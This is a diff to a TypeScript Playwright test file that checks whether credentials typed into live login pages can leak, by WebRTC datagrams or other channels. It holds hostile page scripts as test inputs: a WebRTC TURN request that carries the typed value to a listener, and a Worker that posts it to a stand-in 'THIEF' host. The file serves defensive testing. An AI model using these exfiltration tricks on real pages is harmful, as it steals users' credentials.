@@ -1,12 +1,17 @@
 import { createHash } from 'node:crypto';
+import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { text } from 'node:stream/consumers';
+import { chromium, firefox } from '@playwright/test';
 import { Access } from '../../core/live/access.ts';
+import { withOneWayOut } from '../../core/live/one-way-out.ts';
 import { profileSchema } from '../../core/providers/profile.ts';
 import { Recorder } from '../../core/trail/recorder.ts';
+import { chromiumEngine, firefoxEngine } from '../../fixtures/engines.ts';
 import { openGuarded } from '../../fixtures/guard-credentials.ts';
+import { needOneWayOut } from '../../fixtures/one-way-out.ts';
 import { ProviderPages } from '../../fixtures/provider-pages.ts';
 import { test as base, expect } from '../../fixtures/test.ts';
 import { longUnless } from '../thorough.ts';
@@ -30,6 +35,8 @@ interface LoginPage {
 interface ForTests {
   /** A host that is none of the profile's; what it was asked, and what was connected to it. */
   thief: { origin: string; heard: string[] };
+  /** Hears datagrams; where it listens. */
+  listener: { at: string; heard: string[] };
   /** Signs in, as at a live target, at a login page with this script and this answer; gives the error, if any. */
   logInAt: (page: LoginPage) => Promise<string | null>;
 }
@@ -53,6 +60,14 @@ const test = base.extend<ForTests>({
     await use({ origin: await listening(server), heard });
     server.closeAllConnections();
     server.close();
+  },
+
+  listener: async ({}, use) => {
+    const heard: string[] = [];
+    const socket = createSocket('udp4').on('message', (message) => heard.push(message.toString('latin1')));
+    await once(socket.bind(0, '127.0.0.1'), 'listening');
+    await use({ at: `127.0.0.1:${socket.address().port}`, heard });
+    socket.close();
   },
 
   logInAt: async ({ browser, thief: _, target, config }, use) => {
@@ -170,6 +185,38 @@ const unreadable: Readonly<Record<string, string>> = {
     'new Worker(URL.createObjectURL(new Blob([\'onmessage = ({ data }) => fetch("THIEF/", { method: "POST", mode: "no-cors", body: [...data].reverse().join("") })\']))).postMessage(value)',
   ),
 };
+
+test('what is typed does not leave a live browser by WebRTC, whose datagrams pass every proxy', async ({
+  logInAt,
+  listener,
+}) => {
+  const script = onInput(`
+    const connection = new RTCPeerConnection({
+      iceServers: [{ urls: 'turn:LISTENER?transport=udp', username: value, credential: 'x' }],
+    });
+    connection.createDataChannel('any');
+    connection.setLocalDescription()`);
+  const waits = onSubmit('sent.preventDefault(); setTimeout(() => document.forms[0].submit(), 1000)');
+  const page = `${script.replace('LISTENER', listener.at)};${waits}`;
+  expect(await logInAt({ script: page })).toBeNull();
+  expect(listener.heard).toEqual([]);
+});
+
+for (const browserName of ['chromium', 'firefox'] as const)
+  test(`a ${browserName} that lets pages send by WebRTC is given no credential`, async ({ config }) => {
+    const { launchOptions, channel, missingEngine } =
+      browserName === 'chromium' ? chromiumEngine(config) : firefoxEngine(config);
+    test.skip(missingEngine !== null, missingEngine ?? '');
+    const type = browserName === 'chromium' ? chromium : firefox;
+    // The runner has its own arguments, which it would add.
+    const asItIs = await type.launch({ args: [], ...launchOptions, ...(channel && { channel }) });
+    await expect(needOneWayOut(asItIs)).rejects.toThrow('this browser lets pages send by WebRTC');
+    await asItIs.close();
+    const options = withOneWayOut(browserName, launchOptions ?? {});
+    const kept = await type.launch({ ...options, ...(channel && { channel }) });
+    await needOneWayOut(kept);
+    await kept.close();
+  });
 
 for (const [what, script] of Object.entries(unreadable))
   test(
